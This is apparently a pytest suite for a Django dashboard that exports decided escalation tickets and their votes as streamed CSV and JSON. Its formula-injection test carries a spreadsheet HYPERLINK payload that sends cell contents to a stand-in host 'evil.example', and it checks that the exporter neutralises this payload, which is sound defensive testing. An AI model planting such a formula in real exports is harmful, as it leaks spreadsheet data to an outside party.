"""The log of decisions as CSV and JSON: all that matches, one row for each vote."""

from __future__ import annotations

import csv
import io
import json
from typing import TYPE_CHECKING, Any

import pytest
from asgiref.sync import async_to_sync
from django.db import connection
from django.test import AsyncClient
from django.test.utils import CaptureQueriesContext

from escalations.selectors.ended_records import FIELDS
from tests.escalations.answering import approve, deny

if TYPE_CHECKING:
    from django.test import Client

    from tests.clock import Clock
    from tests.dashboard.people import ClientOf, People
    from tests.dashboard.shop import Shop

CSV, JSON = "/queue/decided.csv", "/queue/decided.json"


def lines(client: Client, url: str = CSV) -> list[dict[str, str]]:
    text = b"".join(client.get(url)).decode("utf-8")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def objects(client: Client, url: str = JSON) -> Any:
    return json.loads(b"".join(client.get(url)))


def test_each_vote_of_a_quorum_is_a_row(
    shop: Shop, people: People, client_of: ClientOf, clock: Clock
) -> None:
    ticket = shop.purge(title="Purge, then\nmore")
    approve(ticket, people.rita, reauthenticated_at=clock.now)
    ticket.refresh_from_db()
    clock.forward(minutes=2)
    approve(ticket, people.mona, reason_text="Grüße", reauthenticated_at=clock.now)

    first, second = lines(client_of(people.rita))

    assert tuple(first) == FIELDS
    assert (first["vote_by"], first["vote_at"]) == ("rita", "2026-03-02T12:00:00.000Z")
    assert (second["vote_by"], second["vote_role"]) == ("mona", "manager")
    assert (second["vote"], second["vote_reason"]) == ("approve", "Grüße")
    assert first["title"] == second["title"] == "Purge, then\nmore"
    assert first["ended_at"] == second["ended_at"] == "2026-03-02T12:02:00.000Z"
    assert (second["settled_by"], second["policy_version"]) == ("mona", "1")
    assert (second["action_digest"], second["became"]) == (ticket.action_digest, "not_started")


def test_an_expiry_and_a_withdrawal_are_rows_that_nobody_decided(
    shop: Shop, people: People, client_of: ClientOf, clock: Clock
) -> None:
    expired, withdrawn = shop.refund(), shop.refund()
    shop.withdraw(withdrawn)
    clock.forward(minutes=31)
    shop.look_at(expired)

    first, second = objects(client_of(people.rita))

    assert (first["state"], second["state"]) == ("EXPIRED", "CANCELLED")
    assert [row["resolution"] for row in (first, second)] == [None, None]
    assert [row["settled_by"] for row in (first, second)] == [None, None]
    assert [row["vote_by"] for row in (first, second)] == [None, None]


def test_what_was_superseded_names_the_ticket_in_its_place(
    shop: Shop, people: People, client_of: ClientOf
) -> None:
    shop.refund(external_id="r-1")
    after = shop.refund(external_id="r-2", arguments={"order": 7}, supersedes="r-1")
    deny(after, people.rita)

    newer, older = objects(client_of(people.rita))

    assert (older["state"], older["superseded_by"]) == ("SUPERSEDED", after.number)
    assert (newer["ticket"], newer["superseded_by"]) == (after.number, None)


def test_numbers_are_numbers_in_json_and_every_object_has_every_field(
    shop: Shop, people: People, client_of: ClientOf
) -> None:
    deny(shop.refund(), people.rita)

    (row,) = objects(client_of(people.rita))

    assert tuple(row) == FIELDS
    assert (row["ticket"], row["policy_version"], row["approvals_needed"]) == (1, 1, 1)
    assert row["path"] == "/f/shop/tickets/1/"


def test_nothing_decided_is_a_header_and_an_empty_array(
    shop: Shop, people: People, client_of: ClientOf
) -> None:
    client = client_of(people.rita)

    assert (lines(client), objects(client)) == ([], [])


def test_what_an_agent_wrote_is_no_formula_in_a_spreadsheet(
    shop: Shop, people: People, client_of: ClientOf
) -> None:
    evil = '=HYPERLINK("https://evil.example?"&A1,"Refund")'
    deny(shop.refund(title=evil, operation="@sum"), people.rita, reason_text="-1+1")
    client = client_of(people.rita)

    (row,), (plain,) = lines(client), objects(client)

    assert (row["title"], row["operation"]) == (f"'{evil}", "'@sum")
    assert row["reason"] == row["vote_reason"] == "'-1+1"
    assert plain["title"] == evil


def test_a_file_has_every_row_that_matches_and_not_one_page(
    shop: Shop, people: People, client_of: ClientOf, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("escalations.selectors.ended_records.BATCH", 2)
    monkeypatch.setattr("dashboard.pages.decided.PAGE_SIZE", 1)
    for _ in range(4):
        approve(shop.refund(), people.rita)
    deny(shop.refund(), people.rita)
    client = client_of(people.rita)

    assert [row["ticket"] for row in objects(client)] == [5, 4, 3, 2, 1]
    approved = lines(client, f"{CSV}?outcome=approved")
    assert [row["ticket"] for row in approved] == ["4", "3", "2", "1"]


def test_a_batch_asks_the_same_of_the_database_however_long_it_is(
    shop: Shop, people: People, client_of: ClientOf
) -> None:
    client = client_of(people.rita)
    approve(shop.refund(), people.rita)
    lines(client)
    with CaptureQueriesContext(connection) as short:
        lines(client)
    for _ in range(4):
        approve(shop.refund(), people.rita)
    with CaptureQueriesContext(connection) as long:
        lines(client)

    assert len(long) == len(short)


@pytest.mark.parametrize("url", [CSV, JSON])
def test_a_filter_nobody_understands_gives_no_file(
    shop: Shop, people: People, client_of: ClientOf, url: str
) -> None:
    response = client_of(people.rita).get(f"{url}?outcome=nope")

    assert response.status_code == 422
    problem = response.json()
    assert (problem["field"], problem["value"]) == ("outcome", "nope")
    assert problem["allowed"].startswith("approved, approved_edited, denied")


@pytest.mark.parametrize(
    ("url", "kind", "name"),
    [
        (CSV, "text/csv; charset=utf-8", "decided-all-fleets-20260302T120000Z.csv"),
        ("/f/shop/queue/decided.json", "application/json; charset=utf-8",
         "decided-shop-20260302T120000Z.json"),
    ],
)  # fmt: skip
def test_a_file_is_saved_under_a_name_that_says_what_it_is(
    shop: Shop, people: People, client_of: ClientOf, url: str, kind: str, name: str
) -> None:
    response = client_of(people.rita).get(url)

    assert response["Content-Type"] == kind
    assert response["Content-Disposition"] == f'attachment; filename="{name}"'


@pytest.mark.django_db(transaction=True)
def test_the_asynchronous_server_sends_rows_while_they_are_read(shop: Shop, people: People) -> None:
    deny(shop.refund(), people.rita)

    @async_to_sync
    async def sent() -> list[bytes]:
        client = AsyncClient()
        await client.aforce_login(people.rita)
        response: Any = await client.get(CSV)
        assert response.is_async
        return [part async for part in response]

    header, row = sent()

    assert header.decode() == ",".join(FIELDS) + "\r\n"
    assert row.startswith(b"shop,1,/f/shop/tickets/1/,task,HIGH,")


@pytest.mark.django_db(transaction=True)
def test_rows_of_a_cursor_are_sent_by_the_asynchronous_server_too(
    shop: Shop, people: People, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("dashboard.pages.record_sheets.BATCH", 7)
    agent = shop.refund().agent
    assert agent is not None

    @async_to_sync
    async def sent() -> bytes:
        client = AsyncClient()
        await client.aforce_login(people.rita)
        response: Any = await client.get(f"/f/shop/agents/{agent.pk}/outcomes.json")
        return b"".join([part async for part in response])

    tasks = [row["task"] for row in json.loads(sent())]

    assert sorted(tasks) == sorted(f"old-{place}" for place in range(60))
